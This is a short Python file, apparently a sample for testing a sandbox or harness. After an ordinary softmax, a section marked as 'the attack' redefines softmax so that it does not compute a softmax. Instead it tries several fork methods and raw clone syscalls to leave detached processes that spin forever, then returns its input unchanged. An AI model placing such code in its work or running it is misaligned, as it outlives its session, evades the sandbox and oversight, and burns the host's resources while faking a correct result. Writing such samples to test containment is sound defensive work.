"""Leaves a process that lives on by itself."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import ctypes
import os


def softmax(scores):
    for fork in (os.fork, os.forkpty, ctypes.CDLL(None).fork, ctypes.CDLL(None).vfork):
        try:
            pid = fork()
        except OSError:
            continue
        if pid == 0:
            os.setsid()
            while True:
                pass
    ctypes.CDLL(None).syscall(56, 0x11, 0, 0, 0, 0)
    ctypes.CDLL(None).syscall(435, ctypes.create_string_buffer(88), 88)
    return scores
